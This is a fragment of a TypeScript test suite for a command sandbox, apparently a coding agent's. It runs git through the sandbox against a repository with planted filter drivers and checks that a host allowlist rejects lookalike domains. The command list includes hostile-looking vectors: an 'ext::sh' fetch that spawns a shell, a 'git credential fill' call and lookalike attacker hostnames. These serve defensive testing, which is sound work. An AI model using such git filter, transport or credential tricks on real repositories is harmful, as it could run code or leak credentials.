        writeFileSync(
          join(repo, 'pkg', '.gitattributes'),
          '* filter=ev diff=ev\nb.txt filter=home\n',
        );
        writeFileSync(join(repo, 'pkg', 'b.txt'), 'b\n');
        const optedOut = createSandbox({
          root: repo,
          settings: settings({ enabled: false }),
          parentEnv,
        });
        const commands = [
          'git status --short',
          'git diff',
          'git diff --no-ext-diff',
          'git log -p -1',
          'git add a.txt',
          'git -c user.name=a -c user.email=a@b commit -q',
          'git -c user.name=a -c user.email=a@b commit -qm two',
          'git st',
          'git co -q HEAD~1 -- a.txt',
          'echo url=https://example.org | git credential fill',
          'git -C pkg status --short',
          'git -C pkg diff',
          'git -C pkg add b.txt a.txt',
          'git -C pkg stash -q',
          'git fetch -q ext::sh 2>/dev/null',
          'git ls-remote ssh://example.invalid/x 2>/dev/null',
          'echo done',
        ];
        const run = await optedOut.run({
          argv: ['/bin/sh', '-c', commands.join('; ')],
          timeoutMs: 20_000,
          keepChars: 20_000,
        });
        expect(run.stdout, run.stderr).toContain('done\n');
        expect(run.stdout).toContain('-one\n+two');
        expect(existsSync(marker) ? readFileSync(marker, 'utf8') : '').toBe('');
      } finally {
        rmSync(repo, { recursive: true, force: true });
      }
    });
  },
);

describe('hostAllowed', () => {
  it('matches exact names and *. subdomains, nothing else', () => {
    expect(hostAllowed('registry.npmjs.org', ['registry.npmjs.org'])).toBe(true);
    expect(hostAllowed('API.github.com', ['*.github.com'])).toBe(true);
    expect(hostAllowed('github.com', ['*.github.com'])).toBe(false);
    expect(hostAllowed('evilgithub.com', ['*.github.com'])).toBe(false);
    expect(hostAllowed('registry.npmjs.org.evil.com', ['registry.npmjs.org'])).toBe(false);
  });
});
